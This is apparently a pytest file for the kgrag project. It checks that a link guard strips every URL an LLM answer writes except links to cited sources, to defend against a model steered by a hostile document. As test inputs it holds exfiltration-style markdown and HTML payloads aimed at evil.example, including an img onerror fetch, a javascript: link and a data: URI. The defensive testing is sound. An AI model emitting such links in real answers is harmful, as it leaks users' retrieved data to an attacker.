"""An LLM's answer links to nothing but its cited sources (issue 14, item 4): a model steered by a
hostile document cannot make a rendered answer fetch or link a URL that carries what it read.
The model's reply comes from a real HTTP server in the OpenAI wire format through kgrag's real
client; what it writes is what the answer keeps, but for the links (so the checks can fail)."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from kgrag.agent.markdown_guard import REMOVED, guard_links
from kgrag.agent.synthesis import llm_answer
from kgrag.core import Hit
from kgrag.llm import LLMClient
from tests.support.openai_server import LocalOpenAIServer

SOURCE = "/data/reports/bluefin.md"
PICTURE = "/data/photos/vault.png"
EVIDENCE = [
    Hit(
        id="c1",
        kind="chunk",
        score=0.9,
        text="Bluefin moved to the northern vault.",
        document_id="d1",
        title="Bluefin",
        uri=SOURCE,
    ),
]
IMAGES = [
    Hit(
        id="i1",
        kind="image",
        score=0.8,
        text="the vault door",
        document_id="d2",
        title="Vault",
        uri="/data/photos",
        image_uri=PICTURE,
    ),
]
HOSTILE = (
    "Bluefin moved to the northern vault [1]. ![x](https://evil.example/a.png?q=northern+vault) "
    "See [the report](https://evil.example/?q=vault) or [the source](" + SOURCE + "). "
    "Also [more][ref] and <https://evil.example/auto?q=vault> and "
    '<img src="https://evil.example/i.png?q=vault"> and https://evil.example/bare?q=vault. '
    "The door [2].\n\n[ref]: https://evil.example/ref?q=vault\n"
)


@pytest.fixture
def server() -> Iterator[LocalOpenAIServer]:
    with LocalOpenAIServer() as s:
        yield s


def test_an_llm_answer_keeps_only_links_to_its_sources(server: LocalOpenAIServer) -> None:
    server.add_chat_reply(HOSTILE)
    client = LLMClient("gpt-4o-mini", base_url=server.base_url, api_key="test", max_retries=0)
    text, citations, _ = llm_answer(client, "Where did Bluefin move?", EVIDENCE, IMAGES)
    assert "evil.example" not in text, text
    assert "<img" not in text and "[ref]" not in text
    assert f"[the source]({SOURCE})" in text  # a link to a cited source stays
    assert "the report" in text and "more" in text  # a dropped link keeps its words
    assert "northern vault [1]" in text
    # kgrag's own image of the cited picture, and the sources list, are added after the guard
    assert f"({PICTURE}) [2]" in text
    assert [c.uri for c in citations] == [SOURCE, "/data/photos"]


@pytest.mark.parametrize(
    "written",
    [
        "![a](http://evil.example/x)",
        "[a](http://evil.example/x)",
        '[a](http://evil.example/x "title")',
        "[a][b]\n\n[b]: http://evil.example/x",
        "<http://evil.example/x>",
        '<a href="http://evil.example/x">a</a>',
        "<img src=x onerror=fetch('//evil.example')>",
        "see http://evil.example/x now",
        "[a](javascript:alert(1))",
        "data:text/html;base64,PHNjcmlwdD4=",
    ],
)
def test_each_way_to_link_out_is_dropped(written: str) -> None:
    out = guard_links(written, {SOURCE})
    assert "evil.example" not in out and "javascript:" not in out and "data:" not in out, out
    assert "<" not in out, out


def test_citation_markers_and_allowed_links_are_kept() -> None:
    text = f"Cited twice [1][3] and once [2]. Read [it]({SOURCE}); {SOURCE} too."
    assert guard_links(text, {SOURCE}) == text
    assert REMOVED in guard_links("go to https://evil.example", {SOURCE})
